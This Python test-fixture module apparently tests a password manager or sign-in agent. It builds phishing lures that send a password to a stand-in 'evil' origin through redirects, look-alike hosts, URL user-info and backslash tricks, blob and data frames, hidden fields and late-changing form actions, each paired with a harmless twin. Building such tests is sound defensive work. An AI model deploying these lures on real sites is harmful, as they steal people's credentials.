"""Pages that want a password that is not for them.

Each is a way to lead a sign-in astray.  ``set(hostile, to)`` builds it: with ``to`` the evil origin
it is the trick; with ``to`` the provider's own it is its twin, the same pages without the trick,
where the sign-in succeeds: so what is tried is the trick, and not a page that cannot be used.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from hostile import Hostile

Set = Callable[[Hostile, str], None]


def form(
    *, to: str = "/in", on_form: str = "", on_user: str = "", on_password: str = "",
    buttons: str = "<button>Sign in</button>", more: str = "",
) -> str:  # fmt: skip
    return f"""<!doctype html><h1>Sign in</h1><form id=f method=post action="{to}" {on_form}>
    <label>User <input id=u name=u autocomplete=username {on_user}></label>
    <label>Password <input id=p name=p type=password {on_password}></label>{buttons}</form>{more}"""


def script(code: str) -> str:
    return f"<script>{code}</script>"


def frame(url: str, more: str = "") -> str:
    return f"<!doctype html><h1>x</h1><iframe width=700 height=500 {more} src='{url}'></iframe>"


@dataclass(frozen=True)
class Lure:
    """``twin``: whether the same pages without the trick sign in."""

    set: Set
    twin: bool = True
    code: str | None = "origin_not_allowed"
    """How the sign-in ends; None where it depends on the moment."""


def provider(page: Callable[[Hostile, str], str]) -> Set:
    """It is what the provider's first page shows."""

    def build(h: Hostile, to: str) -> None:
        h.pages["login /"] = page(h, to)

    return build


def _redirected(h: Hostile, to: str) -> None:
    h.pages["login /"] = h.go(to + "/form")


def _refreshed(h: Hostile, to: str) -> None:
    h.pages["login /"] = f"<meta http-equiv=refresh content='0;url={to}/form'><h1>wait</h1>"


def _look_alike(name: str) -> Set:
    """A host that looks like the provider's."""

    def build(h: Hostile, to: str) -> None:
        host = to if to == h.identity else f"http://{name}.localhost:{h.port}"
        h.pages["login /"] = h.go(host + "/form")
        h.pages[f"{name} /form"] = form(to="/take")

    return build


def _user_info(h: Hostile, to: str) -> None:
    """An address that begins like the provider's."""
    trick = f"http://login.localhost:{h.port}@evil.localhost:{h.port}/form"
    h.pages["login /"] = h.go(trick if to == h.evil else to + "/form")


def _backslash(h: Hostile, to: str) -> None:
    trick = f"http://evil.localhost:{h.port}\\@login.localhost:{h.port}/form"
    h.pages["login /"] = h.go(trick if to == h.evil else to + "/form")
    h.pages[f"evil /@login.localhost:{h.port}/form"] = form(to="/take")


def _on_the_site(h: Hostile, to: str) -> None:
    """The site itself asks: it is no place for a password, though we begin there."""
    h.pages["knoq /"] = form(to="/take") if to == h.evil else h.go(to + "/form")


def _popup(h: Hostile, to: str) -> None:
    h.pages["knoq /"] = f"<button onclick=\"window.open('{to}/form')\">Sign in</button>"


def _opener_moves_the_popup(h: Hostile, to: str) -> None:
    code = f"setTimeout(() => {{ if (w) w.location = '{to}/form' }}, 400)"
    h.pages["knoq /"] = (
        f"<script>let w; function go() {{ w = window.open('{h.identity}/form'); {code} }}</script>"
        "<button onclick='go()'>Sign in</button>"
    )


def _popup_moves_the_opener(h: Hostile, to: str) -> None:
    h.pages["knoq /"] = f"<button onclick=\"window.open('{h.identity}/start')\">Sign in</button>"
    h.pages["login /start"] = script(f"opener.location = '{to}/form'; close()")


def _blob(h: Hostile, to: str) -> None:
    html = form(to=h.identity + "/take").replace("\n", " ")
    made = f"URL.createObjectURL(new Blob([`{html}`], {{type: 'text/html'}}))"
    trick = f"document.write(`<iframe width=700 height=500 src=${{{made}}}></iframe>`)"
    h.pages["login /"] = script(trick) if to == h.evil else frame("/form")


def _blob_on_top(h: Hostile, to: str) -> None:
    html = form(to=h.identity + "/take").replace("\n", " ")
    made = f"URL.createObjectURL(new Blob([`{html}`], {{type: 'text/html'}}))"
    trick = script(f"location = {made}")
    h.pages["login /"] = trick if to == h.evil else script("location = '/form'")


def _data(h: Hostile, to: str) -> None:
    html = form(to=h.identity + "/take").replace('"', "").replace("\n", " ").replace("#", "")
    h.pages["login /"] = frame("data:text/html," + html if to == h.evil else "/form")


def _written(h: Hostile, to: str) -> None:
    """A document without an address that a script writes."""
    html = form(to=h.identity + "/take").replace("\n", " ")
    trick = "<iframe id=i width=700 height=500></iframe>" + script(
        f"i.contentDocument.write(`{html}`)"
    )
    h.pages["login /"] = trick if to == h.evil else frame("/form")


def _framed_again(h: Hostile, to: str) -> None:
    """The provider's form in a stranger's frame in the provider's page."""
    h.pages["login /"] = frame(to + "/between")
    for name in ("evil", "login"):
        h.pages[f"{name} /between"] = frame(h.identity + "/form")


def _sandboxed(h: Hostile, to: str) -> None:
    more = "sandbox='allow-forms allow-scripts allow-top-navigation'"
    h.pages["login /"] = frame("/form", more if to == h.evil else "")


def _shadowed(page: str) -> str:
    """The same in an open shadow root."""
    return "<acme-box></acme-box>" + script(
        "class Box extends HTMLElement { connectedCallback() {"
        f" this.attachShadow({{mode: 'open'}}).innerHTML = `{page}` }} }}"
        " customElements.define('acme-box', Box);"
    )


def _code_elsewhere(h: Hostile, to: str) -> None:
    """The password goes where it belongs; then somebody else asks for the code."""
    ask = "<h1>Enter the code</h1><form method=post action=/in><label>Code"
    ask += "<input name=c autocomplete=one-time-code></label><button>Verify</button></form>"
    h.pages["login /"] = form(to="/first")
    h.pages["login /first"] = h.go(to + "/code")
    h.pages["login /code"] = h.pages["evil /code"] = ask


def late(event: str) -> Set:
    """The page goes on while it is worked at; ``event`` is when."""
    return provider(lambda h, to: form(more=script(event.format(to=to + "/form"))))


LURES: dict[str, Lure] = {
    "a redirect": Lure(_redirected),
    "a page that refreshes itself elsewhere": Lure(_refreshed),
    "a host with a digit for a letter": Lure(_look_alike("l0gin")),
    "a host with a Greek letter": Lure(_look_alike("xn--lgin-0nd")),
    "a host below which the name stands": Lure(_look_alike("login.localhost.evil")),
    "a host with a dash more": Lure(_look_alike("login-acme")),
    "user info that looks like a host": Lure(_user_info),
    "a backslash before an at sign": Lure(_backslash),
    "the site's own page": Lure(_on_the_site),
    "a window that was opened elsewhere": Lure(_popup),
    "an opener that moves the window": Lure(_opener_moves_the_popup, code=None),
    "a window that moves its opener": Lure(_popup_moves_the_opener, code=None),
    "a blob in a frame": Lure(_blob, code=None),
    "a blob on top": Lure(_blob_on_top, code=None),
    "a data address in a frame": Lure(_data, code=None),
    "a document that a script wrote": Lure(_written, code=None),
    "a stranger's frame in between": Lure(_framed_again),
    "a sandbox": Lure(_sandboxed, code=None),
    "a form in a shadow root that sends elsewhere": Lure(
        provider(lambda h, to: _shadowed(form(to=to + "/take")))
    ),
    "a frame in a shadow root": Lure(provider(lambda h, to: _shadowed(frame(to + "/form")))),
    "a button of another form": Lure(
        provider(
            lambda h, to: form(
                buttons="<button form=e>Sign in</button>",
                more=f"<form id=e method=post action='{to}/take'></form>",
            ).replace("<input ", "<input form=e ")
        )
    ),
    "a picture as the button": Lure(
        provider(
            lambda h, to: form(
                buttons=f"<input type=image alt='Sign in' width=90 height=30 formaction={to}/take>"
            )
        )
    ),
    "a code that somebody else asks for": Lure(_code_elsewhere),
    "a page that goes on before": Lure(late("setTimeout(() => location = '{to}', 30)")),
    "a page that goes on at the name": Lure(late("u.oninput = () => location = '{to}'"), code=None),
    "a page that goes on at the password": Lure(
        late("p.oninput = () => location = '{to}'"), twin=False, code=None
    ),
    "a page that goes on at the focus": Lure(
        late("p.onfocus = () => location.replace('{to}')"), code=None
    ),
    "an action that turns away all the time": Lure(
        provider(
            lambda h, to: form(
                more=script(f"setInterval(() => {{ f.action = '{to}/take' }}, 1)")
            )
        )
    ),
    "a field that is cut away": Lure(
        provider(
            lambda h, to: form(
                to="/take",
                on_password="style='position:absolute;clip-path:inset(50%)'" * (to == h.evil),
            )
        ),
        code=None,
    ),
    "a field behind a picture": Lure(
        provider(
            lambda h, to: form(
                to="/take",
                on_password="style='position:relative;z-index:-1'" * (to == h.evil),
                more="<div style='position:absolute;left:0;top:0;width:600px;height:120px;"
                "background:#fff'></div>" * (to == h.evil),
            )
        ),
        code=None,
    ),
    "a base that is moved late": Lure(
        provider(
            lambda h, to: form(
                to="take",
                on_user="oninput=\"document.head.append(Object.assign("
                f"document.createElement('base'), {{ href: '{to}/' }}))\"",
            )
        )
    ),
}  # fmt: skip

# How a field can be there and not be seen.
UNSEEN: dict[str, str] = {
    "display": "display:none",
    "visibility": "visibility:hidden",
    "off-screen": "position:absolute;left:-9999px",
    "above": "position:absolute;top:-500px",
    "zero": "width:0;height:0;padding:0;border:0",
    "a dot": "width:1px;height:1px;padding:0;border:0",
    "transparent": "opacity:0",
    "nearly": "opacity:0.02",
    "filtered": "filter:opacity(0)",
}


def honeypots() -> str:
    """A form with one field that is meant, and many that only a program would fill."""
    fields = "".join(
        f"<input name='pot {name}' type=password autocomplete=current-password style='{style}'>"
        for name, style in UNSEEN.items()
    )
    fields += "<div inert><input name='pot inert' type=password></div>"
    fields += "<div aria-hidden=true><input name='pot aria' type=password></div>"
    fields += "<input name='pot user' autocomplete=username style='display:none'>"
    return form(buttons=fields + "<button>Sign in</button>")


def bait(to: str) -> str:
    """An honest form, and one for whoever fills all that it knows of."""
    hidden = "position:absolute;left:-9999px"
    return form() + (
        f"<form method=post action='{to}/take' style='{hidden}'><input name=u "
        "autocomplete=username><input name=p type=password autocomplete=current-password>"
        "<button>Sign in</button></form>"
        f"<form method=post action='{to}/take'><h2>New here? Create an account</h2>"
        "<label>E-mail <input name=e type=email></label>"
        "<label>Choose a password <input name=n type=password autocomplete=new-password></label>"
        "<label>Repeat it <input name=r type=password autocomplete=new-password></label>"
        "<button>Sign up</button></form>"
    )


NEW_PASSWORD = form(to="/take", buttons=(
    "<label>New password <input name=n type=password autocomplete=new-password></label>"
    "<label>Repeat it <input name=r type=password autocomplete=new-password></label>"
    "<button>Change password</button>"
)).replace("Sign in</h1>", "Change your password</h1>")  # fmt: skip
